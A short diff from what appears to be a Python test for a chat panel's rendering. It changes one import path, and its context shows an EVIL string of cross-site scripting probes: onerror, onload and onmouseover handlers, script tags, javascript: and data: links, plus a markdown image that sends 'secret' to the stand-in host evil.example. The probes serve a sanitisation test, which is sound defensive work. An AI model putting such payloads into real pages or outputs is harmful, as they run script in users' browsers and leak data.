@@ -248,7 +248,7 @@ PROBES = r"""
 from lhkit import ScriptedModel, ToolDefinition, ToolOk, ToolRegistry
 from lhkit.models.scripted import Reply
 from lhkit.notebook import ChatPanel
-from lhkit.vocab.messages import ToolCall
+from lhkit.messages import ToolCall
 EVIL = '''<img src=x onerror="window.ran=1"><script>window.ran=2</script>
 [link](javascript:window.ran=3) [data](data:text/html,<script>window.ran=4</script>)
 ![secret](https://evil.example/?q=secret) <svg onload="window.ran=5"> "><b onmouseover=window.ran=6>
